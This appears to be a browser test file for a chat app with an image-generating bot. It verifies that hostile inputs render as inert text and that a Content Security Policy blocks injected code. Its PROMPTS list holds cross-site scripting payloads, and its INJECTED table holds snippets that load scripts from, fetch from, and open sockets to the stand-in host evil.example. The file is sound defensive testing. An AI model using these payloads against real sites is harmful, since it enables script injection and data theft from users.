"""Words that would be markup, scripts or links that run: in prompts to the real bot, and in messages of every kind.

Every test here also holds what all hold: no dialog, no error, no request elsewhere.
"""

import asyncio
import json
import re

from playwright.async_api import expect

from tests.browser.conftest import Comes
from tests.browser.visitor import Visitor

PROMPTS = (
    '<script>document.title = "owned"</script>',
    "<img src=x onerror=\"document.title='owned'\"> <svg/onload=alert(1)>",
    '"><iframe srcdoc="<script>parent.document.title=\'owned\'</script>"></iframe>',
    "[click me](javascript:document.title='owned') <javascript:alert(1)>",
    '[data](data:text/html,<script>alert(1)</script>) <https://127.0.0.1/"onmouseover="alert(1)>',
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} `${alert(1)}`",
    "</textarea></pre></code></li><style>*{display:none}</style><base href=//evil.example>",
    "||<b>hidden</b>|| **<i>bold</i>** ```html\n<script>alert(1)</script>\n```",
    "@everyone @here <@&1> <@1> <#1> <t:99999999999999:R> <t:-1:Z> </admin quota grant:1>",
)
EXECUTABLE = "script, iframe, object, embed, base, style, link, meta, form[action], svg, [onerror], [onload], [onclick]"
KINDS = """() => {
    const kinds = new Set(), links = new Set(), handlers = new Set();
    for (const each of document.querySelectorAll("[role=log] *")) {
        kinds.add(each.localName);
        if (each.hasAttribute("href")) links.add(new URL(each.getAttribute("href"), location.href).protocol);
        if (each.hasAttribute("src")) links.add("src " + new URL(each.src).origin);
        for (const name of each.getAttributeNames()) if (name.startsWith("on")) handlers.add(name);
    }
    return {kinds: [...kinds], links: [...links], handlers: [...handlers]};
}"""
OURS = re.compile(
    "a|b|blockquote|br|button|code|dd|details|dl|dt|div|em|fieldset|hr|img|input|label|legend|li|ol|option|p|pre|s|"
    "select|small|span|strong|summary|time|u|ul"
)


async def holds_nothing_that_runs(visitor: Visitor, page_title: str) -> None:
    found = await visitor.page.evaluate(KINDS)
    assert [each for each in found["kinds"] if not OURS.fullmatch(each)] == []
    assert found["handlers"] == []
    assert {each for each in found["links"] if not each.startswith("src ")} <= {"https:", "http:"}
    assert await visitor.page.locator("[role=log]").locator(EXECUTABLE).count() == 0
    assert await visitor.page.title() == page_title


async def test_prompts_stand_there_as_they_were_typed_and_do_nothing(comes: Comes) -> None:
    ada, ben = await comes("Ada"), await comes("Ben")
    prompts = [re.sub(r"\s*\n\s*", " ", each) for each in PROMPTS]
    for prompt in prompts:
        await ada.slash("imagine", {"prompt": prompt})

    for prompt in prompts:
        picture = ben.page.get_by_role("img", name=prompt, exact=True)
        await expect(picture).to_have_count(1)
        result = ben.messages.filter(has=picture)
        said = re.sub(r"[^A-Za-z0-9]+", "", await result.locator(".text").first.text_content() or "")
        assert re.sub(r"[^A-Za-z0-9]+", "", prompt)[:20] in said, "the bot quotes what was asked for"
        await result.hover()
        await result.get_by_role("button", name="Alt text").click()
        assert await result.locator(".alt-words").text_content() == prompt
    for visitor in (ada, ben):
        await holds_nothing_that_runs(visitor, "#general")


async def test_what_people_say_stands_there_and_does_nothing(comes: Comes) -> None:
    ada, ben = await comes("Ada", "no-uploads"), await comes("Ben", "no-uploads")
    for each in PROMPTS:
        await ada.send(each)
        await expect(ada.writing).to_have_value("")

    await expect(ben.messages.last).to_contain_text("@everyone")
    await expect(ben.messages.filter(has_text="<script>document.title")).not_to_have_count(0)
    for link in await ben.page.get_by_role("log").get_by_role("link").all():
        assert re.match("https?://", await link.get_attribute("href") or "")
    await holds_nothing_that_runs(ben, "#no-uploads")


async def test_hostile_words_of_a_bot_do_nothing(comes_to_the_show: Comes) -> None:
    ada = await comes_to_the_show()

    await expect(ada.message("owned")).to_contain_text("[click](javascript:document.title='owned')")
    await expect(ada.message("owned").get_by_role("link")).to_have_attribute(
        "href", "https://example.com/%22onmouseover=%22x"
    )
    await holds_nothing_that_runs(ada, "#general")


POLICY = "Content Security Policy"
LIMIT_S = 20.0


def added(element: str, attribute: str, value: str) -> str:
    """A script that puts an element into the page, and presses it where that does something."""
    return f"""() => {{
        const added = document.createElement("{element}");
        added.{attribute} = {json.dumps(value)};
        document.head.prepend(added);
        added.click();
    }}"""


INJECTED = {
    "an inline script": added("script", "textContent", "window.owned = true"),
    "a handler": added("div", "innerHTML", '<img src="/static/easel.svg" onload="window.owned = true">'),
    "a link that runs": added("a", "href", "javascript:window.owned = true"),
    "words made code": "() => setTimeout('window.owned = true')",
    "a script from elsewhere": added("script", "src", "https://evil.example/x.js"),
    "a picture from elsewhere": "() => { new Image().src = 'https://evil.example/x.png'; }",
    "a call elsewhere": "() => fetch('https://evil.example/').catch(() => null)",
    "a socket elsewhere": "() => { try { new WebSocket('wss://evil.example/'); } catch {} }",
    "a frame": added("iframe", "srcdoc", "<script>parent.owned = true</script>"),
    "a style": added("style", "textContent", "main { display: none }"),
    "another base": added("base", "href", "https://evil.example/"),
}


async def test_had_something_come_in_after_all_the_policy_would_stop_it(comes_to_the_show: Comes) -> None:
    """The second wall: the page is made to let it in, and still nothing runs and nothing leaves."""
    ada = await comes_to_the_show()
    refused: dict[str, str | None] = {}
    ada.page.on("requestfailed", lambda request: refused.update({request.url: request.failure}))

    for what, script in INJECTED.items():
        with ada.expecting(f"{POLICY}|evil.example"):
            before = len(ada.wrong)
            await ada.page.evaluate(script)
            async with asyncio.timeout(LIMIT_S):
                while not any(POLICY in each for each in ada.wrong[before:]):
                    await ada.page.wait_for_timeout(20)
            elsewhere = [each.split()[-1] for each in ada.wrong[before:] if POLICY not in each]
        assert {refused.get(each) for each in elsewhere} <= {"csp"}, what
        assert await ada.page.evaluate("window.owned") is None, what

    assert (await ada.page.evaluate("document.baseURI")).startswith("http://127.0.0.1")
    await expect(ada.page.get_by_role("main")).to_be_visible()
